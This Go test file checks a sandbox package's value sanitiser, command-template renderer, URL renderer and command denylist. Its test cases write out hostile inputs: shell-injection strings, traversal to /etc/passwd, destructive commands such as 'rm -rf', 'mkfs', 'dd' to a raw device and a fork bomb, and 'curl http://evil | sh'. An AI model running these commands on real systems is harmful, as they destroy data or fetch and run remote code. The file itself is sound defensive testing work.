package sandbox

import (
	"errors"
	"reflect"
	"testing"
)

func TestSanitizeValue(t *testing.T) {
	tests := []struct {
		name    string
		value   string
		wantErr bool
	}{
		{"Plain value", "report.txt", false},
		{"Spaces allowed", "two words", false},
		{"Path without traversal", "/var/data/file", false},
		{"Semicolon injection", "x; rm", true},
		{"Backtick injection", "`id`", true},
		{"Dollar expansion", "$HOME", true},
		{"Pipe", "a|b", true},
		{"Redirect", "a>b", true},
		{"Quote", `say "hi"`, true},
		{"Newline", "a\nb", true},
		{"Traversal", "../../etc/passwd", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := SanitizeValue(tt.value)
			if (err != nil) != tt.wantErr {
				t.Errorf("SanitizeValue(%q) = %v, wantErr %v", tt.value, err, tt.wantErr)
			}
		})
	}
}

func TestRenderCommand(t *testing.T) {
	tests := []struct {
		name     string
		template string
		args     map[string]string
		want     []string
		rejected bool
	}{
		{
			name:     "Simple substitution",
			template: "ls -la {path}",
			args:     map[string]string{"path": "/tmp"},
			want:     []string{"ls", "-la", "/tmp"},
		},
		{
			name:     "Placeholder inside token",
			template: "tar -czf {name}.tar.gz {name}",
			args:     map[string]string{"name": "backup"},
			want:     []string{"tar", "-czf", "backup.tar.gz", "backup"},
		},
		{
			name:     "Unresolved placeholder",
			template: "echo {missing}",
			args:     map[string]string{},
			rejected: true,
		},
		{
			name:     "Unsafe value never substitutes",
			template: "cat {file}",
			args:     map[string]string{"file": "../../etc/passwd"},
			rejected: true,
		},
		{
			name:     "Injection attempt in value",
			template: "echo {text}",
			args:     map[string]string{"text": "hi; rm -rf /"},
			rejected: true,
		},
		{
			name:     "Empty template",
			template: "   ",
			args:     nil,
			rejected: true,
		},
		{
			name:     "No placeholders",
			template: "uptime",
			args:     nil,
			want:     []string{"uptime"},
		},
		{
			name:     "Rooted template keeps absolute values under the root",
			template: "ls -lah /srv/skyrelay/{dir}",
			args:     map[string]string{"dir": "/etc"},
			want:     []string{"ls", "-lah", "/srv/skyrelay//etc"},
		},
		{
			name:     "Rooted template rejects traversal out of the root",
			template: "ls -lah /srv/skyrelay/{dir}",
			args:     map[string]string{"dir": "../../etc"},
			rejected: true,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := RenderCommand(tt.template, tt.args)
			if tt.rejected {
				var rej *RejectionError
				if !errors.As(err, &rej) {
					t.Fatalf("RenderCommand() error = %v, want RejectionError", err)
				}
				return
			}
			if err != nil {
				t.Fatalf("RenderCommand() error = %v", err)
			}
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("RenderCommand() = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestRenderURL(t *testing.T) {
	url, err := RenderURL("http://localhost:8188/prompt/{id}", map[string]string{"id": "42"})
	if err != nil {
		t.Fatalf("RenderURL() error = %v", err)
	}
	if url != "http://localhost:8188/prompt/42" {
		t.Errorf("RenderURL() = %q", url)
	}

	if _, err := RenderURL("http://x/{p}", map[string]string{"p": "a/../b"}); err == nil {
		t.Error("expected traversal in URL argument to be rejected")
	}
}

func TestCheckDenylist(t *testing.T) {
	tests := []struct {
		name    string
		argv    []string
		blocked bool
	}{
		{"Benign command", []string{"ls", "-la", "/tmp"}, false},
		{"Plain rm single file", []string{"rm", "file.txt"}, false},
		{"Recursive force delete", []string{"rm", "-rf", "/data"}, true},
		{"Sudo", []string{"sudo", "systemctl", "restart"}, true},
		{"Filesystem creation", []string{"mkfs", "/dev/sda1"}, true},
		{"Raw device write", []string{"dd", "if=/dev/zero", "of=/dev/sda"}, true},
		{"Shutdown", []string{"shutdown", "-h", "now"}, true},
		{"World-writable root", []string{"chmod", "777", "/"}, true},
		{"Fork bomb", []string{":()", "{", ":|:&", "};:"}, true},
		{"Pipe to shell", []string{"curl", "http://evil", "|", "sh"}, true},
		{"Firmware word is fine", []string{"echo", "halting"}, false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := CheckDenylist(tt.argv)
			if (err != nil) != tt.blocked {
				t.Errorf("CheckDenylist(%v) = %v, blocked %v", tt.argv, err, tt.blocked)
			}
		})
	}
}
